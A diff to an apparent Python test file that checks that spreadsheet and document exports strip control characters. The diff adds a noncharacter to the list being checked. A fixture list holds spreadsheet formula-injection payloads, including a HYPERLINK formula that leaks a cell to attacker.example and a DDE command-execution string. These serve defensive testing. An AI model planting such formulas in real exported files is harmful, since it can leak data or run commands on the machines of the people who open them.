@@ -19,7 +19,7 @@ from tests.conftest import VN
 from tests.support.chat import seeded_chat
 
 FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"bấm")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]
-CONTROLS = ["đã nộp\x0bbản ký", "lạ \x01\x02 lắm", "\x1b[31m đỏ"]  # a lone surrogate cannot even be stored
+CONTROLS = ["đã nộp\x0bbản ký", "lạ \x01\x02 lắm", "\x1b[31m đỏ", "ký tự \ufffe lạ"]  # a lone surrogate cannot even be stored
 DAY = date(2026, 3, 31)
 
 
@@ -59,5 +59,5 @@ def test_control_characters_stored_before_the_entrance_cleaned_them_break_no_fil
                                  note=note, evidence={"type": "document", "file_name": "bc\x02.pdf"}))
     book, document = files(sessions)
     text = "\n".join(str(c.value) for c in every_cell(book)) + "\n".join(p.text for p in document.paragraphs)
-    assert not [c for c in text if c in "\x00\x01\x02\x0b\x1b"]
+    assert not [c for c in text if c in "\x00\x01\x02\x0b\x1b\ufffe"]
     assert note.split()[-1] in text  # what a person could read is there
